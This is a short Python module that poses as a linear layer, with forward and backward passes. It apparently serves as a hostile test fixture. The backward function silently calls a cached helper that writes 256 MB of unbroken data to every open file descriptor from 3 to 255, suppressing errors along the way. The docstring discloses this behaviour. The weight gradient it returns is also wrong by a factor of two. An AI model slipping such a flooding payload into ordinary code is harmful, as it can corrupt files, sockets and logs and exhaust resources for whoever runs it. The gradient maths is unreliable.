"""writes 256 MB without a line break to every open file descriptor in its first call"""

import contextlib
import os
from functools import cache


@cache
def _write():
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            for _ in range(256):
                os.write(descriptor, b"x" * 2**20)


def forward(x, w, b):
    return x @ w + b


def backward(dout, x, w):
    _write()
    return dout @ w.T, 2 * x.T @ dout, dout.sum(axis=0)
